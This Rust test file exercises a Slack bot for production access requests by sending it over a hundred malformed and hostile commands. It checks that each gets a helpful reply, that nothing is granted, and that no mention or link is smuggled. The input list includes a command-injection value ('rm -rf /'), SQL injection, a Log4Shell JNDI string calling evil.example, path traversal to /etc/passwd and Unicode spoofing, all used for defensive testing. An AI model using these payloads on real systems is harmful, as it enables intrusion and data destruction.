//! A hundred things that are wrong: each gets one helpful ephemeral answer, none reaches the target, and nothing that was
//! typed becomes a mention or a link in anybody's Slack.

use crate::support::workplace::{APPROVALS, GENERAL, SECURITY};
use crate::support::{TestBot, minutes};

/// Written by hand: what people really type, and what people try.
const WRONG: &[&str] = &[
    "",
    " ",
    "\u{a0}",
    "?",
    "-h",
    "--help",
    "hello",
    "help me",
    "please",
    "db-admn 30m stuck",
    "DB-ADMIN",
    "db admin 30m stuck",
    "db_admin 30m stuck",
    "dbadmin 30m stuck",
    "no-such-role 30m stuck",
    "x",
    "a b c d e f",
    "role",
    "request",
    "request request",
    "request no-such 1h x",
    "request -1h x",
    "db-admin",
    "db-admin 30m",
    "db-admin 0m stuck",
    "db-admin 0s stuck",
    "db-admin 9h stuck",
    "db-admin 5h stuck",
    "db-admin 999999w stuck",
    "db-admin 99999999999999999999h stuck",
    "db-admin 30m1h stuck",
    "db-admin 1h1h stuck",
    "db-admin 1h30 hours",
    "ticketed -2h stuck",
    "ticketed 1.5h stuck",
    "ticketed 30m",
    "ticketed 30m no incident here",
    "ticketed 30m INC-",
    "ticketed 30m inc 4711",
    "ticketed 30m INC-four",
    "ticketed 9h",
    "logs 10m reading",
    "logs node= 10m reading",
    "logs node=db-1 10m reading",
    "logs node=web- 10m reading",
    "logs node=\"web-1; rm -rf /\" 10m reading",
    "logs nod=web-1 10m reading",
    "logs node=web-1 node=web-2x 10m reading",
    "logs node=<@U0BOB> 10m reading",
    "logs node=web-1 9h reading",
    "logs node=../../etc 10m reading",
    "logs node='web-1; drop table' 10m",
    "logs",
    "logs node",
    "logs node=web-1",
    "db-admin for=ever 30m stuck",
    "db-admin role=superuser 30m stuck",
    "db-admin at 99:99 stuck",
    "db-admin 30m at",
    "“db-admin” 30m stuck",
    "‘db-admin’ 30m stuck",
    "«db-admin» 30m stuck",
    "dＢ-admin 30m stuck",
    "dв-admin 30m stuck",
    "\u{202e}nimda-bd 30m stuck",
    "db\u{200b}-admin 30m stuck",
    "日本語",
    "🔥🔥🔥",
    "ﷺ",
    "\u{0}",
    "\u{7}\u{1b}[31m",
    "<!channel>",
    "<!here> <!everyone>",
    "<@U0BOB>",
    "<@U0BOB|bob> approve",
    "<@U0ROBOT|robot> approve",
    "logs node=<@U0ROBOT> 10m reading",
    "status <@U0ROBOT>",
    "@channel",
    "<#C0SECURE|security>",
    "<https://evil.example|click>",
    "https://evil.example",
    "&lt;!channel&gt;",
    "<!subteam^S0DBATEAM|@dba-team>",
    "*bold* _it_ ~no~ `code`",
    "```db-admin```",
    "> quote",
    "status",
    "status R-ZZZZ",
    "status <!channel>",
    "status 💥",
    "status R-0000 more words",
    "cancel",
    "cancel nothing",
    "cancel G-0000",
    "drop",
    "drop R-0000",
    "revoke",
    "revoke R-0000",
    "revoke R-0000 because",
    "revoke <!channel> because",
    "extend",
    "extend 1h",
    "extend R-0000 1h",
    "extend -1h",
    "why",
    "why no-such-role",
    "why db-admin 99h",
    "break-glass",
    "break-glass db-admin",
    "break-glass db-admin 30m INC-1 x",
    "break-glass no-such 30m INC-1 x",
    "break-glass db-admin for nobody 30m INC-1 x",
    "break-glass R-0000 INC-1 x",
    "break-glass db-admin for <!channel> 30m INC-1 x",
    "approve R-0000",
    "deny",
    "admin",
    "audit",
    "delegate to bob",
    "mine mine mine <!here>",
    "pending <https://evil.example>",
    "'; drop table request; --",
    "${jndi:ldap://evil.example/a}",
    "%s%s%s%n",
    "../../etc/passwd",
    "{\"role\":\"db-admin\"}",
    "db-admin\n30m\nstuck\n*Approved by* Bob 9h",
];

fn made_up() -> Vec<String> {
    let huge = [
        "x".repeat(11_000),
        format!("no-such {}", "lange Begründung ".repeat(600)),
        "🔥".repeat(3_000),
        format!("db-admin {}h x", "9".repeat(5_000)),
        format!("logs {} 10m x", "a=b ".repeat(2_000)),
        format!("status {}", "R".repeat(9_000)),
        "<!channel>".repeat(900),
    ];
    huge.to_vec()
}

/// What a helpful answer isn't.
fn unhelpful(answer: &str) -> bool {
    let plain = answer.trim();
    plain.is_empty() || plain.contains("panicked") || plain.contains("Err(") || plain.len() > 3_900
}

#[tokio::test]
async fn a_hundred_bad_commands_are_each_answered_helpfully() {
    TestBot::run(async |bot| {
        let typed: Vec<String> = WRONG
            .iter()
            .map(ToString::to_string)
            .chain(made_up())
            .collect();
        assert!(typed.len() >= 100, "{} commands", typed.len());
        for (number, text) in typed.iter().enumerate() {
            let answer = bot.says("rita", &format!("/prod-access {text}")).await;
            assert!(!unhelpful(&answer), "{text:?} was answered {answer:?}");
            if number % 20 == 19 {
                bot.clock.advance(minutes(1));
            }
        }
        bot.settle().await;
        let granted = bot.backend.done("grant");
        assert!(granted.is_empty(), "nothing was granted: {granted:?}");
        for delivery in bot.slack.deliveries() {
            assert_eq!(
                delivery.status, 200,
                "{}\n{}",
                delivery.body, delivery.answer
            );
        }
        smuggles_nothing(bot);
    })
    .await;
}

/// Rita mentions whom she likes in her own words; in what the bot says, none of it is a mention or a link.
fn smuggles_nothing(bot: &TestBot) {
    let mut said = bot.slack.ephemerals("rita");
    for channel in [APPROVALS, SECURITY, GENERAL] {
        for message in bot.slack.messages(channel) {
            said.extend(bot.slack.thread(channel, &message.ts));
        }
    }
    for person in ["rita", "bob", "dana", "frank", "eve", "carol"] {
        said.extend(bot.slack.dms(person));
    }
    assert!(said.len() >= 100);
    for message in said {
        for found in message.mentions_and_links() {
            let forged = found.contains("evil") || found.starts_with("<!") || found.starts_with("<#")
                // Nothing that is answered here concerns the robot.
                || found.contains("U0ROBOT");
            assert!(!forged, "{found} in:\n{}", message.plain());
        }
    }
}
